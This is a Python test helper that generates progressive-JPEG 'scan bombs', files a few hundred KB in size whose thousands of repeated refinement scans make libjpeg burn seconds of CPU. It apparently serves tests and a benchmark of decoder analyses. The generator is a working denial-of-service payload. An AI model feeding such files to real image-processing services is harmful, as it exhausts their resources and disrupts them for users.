"""Progressive-JPEG scan bombs: small files that cost libjpeg seconds of CPU to decode.

A progressive JPEG is decoded scan by scan, and libjpeg walks every block of the image once per
scan. A flat 4096x4096 image codes each AC scan in a few dozen bytes (end-of-band runs), so
repeating its last refinement scan thousands of times makes a file of a few hundred KB whose
decoding takes seconds. libjpeg only warns about the repeated scans and decodes them all.
Used by the tests of analyses/frames.py and by bench/attack.py.
"""

from __future__ import annotations

import io
import struct

from PIL import Image

SOS, EOI, DHT = 0xDA, 0xD9, 0xC4


def _segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, bytes) of each segment after SOI; a scan's entropy-coded data stays with its SOS."""
    out, i = [], 2
    while i < len(data):
        marker = data[i + 1]
        if marker == EOI:
            out.append((marker, data[i : i + 2]))
            break
        end = i + 2 + struct.unpack(">H", data[i + 2 : i + 4])[0]
        if marker == SOS:
            # Coded data runs to the next marker that is neither a stuffed 0xFF00 nor a restart.
            while not (data[end] == 0xFF and data[end + 1] != 0x00 and not 0xD0 <= data[end + 1] <= 0xD7):
                end += 1
        out.append((marker, data[i:end]))
        i = end
    return out


def scan_bomb(*, side: int = 4096, scans: int = 3000) -> bytes:
    """A valid-looking progressive JPEG of side x side pixels with `scans` extra AC scans."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 128).save(buffer, "JPEG", progressive=True, quality=50)
    segments = _segments(buffer.getvalue())
    last_scan = max(i for i, (marker, _) in enumerate(segments) if marker == SOS)
    repeated = b"".join(part for marker, part in segments[last_scan - 1 : last_scan + 1] if marker in (DHT, SOS))
    body = b"".join(part for marker, part in segments if marker != EOI)
    return b"\xff\xd8" + body + repeated * scans + b"\xff\xd9"


def scan_count(data: bytes) -> int:
    """How many scans (SOS segments) a JPEG has."""
    return sum(1 for marker, _ in _segments(data) if marker == SOS)
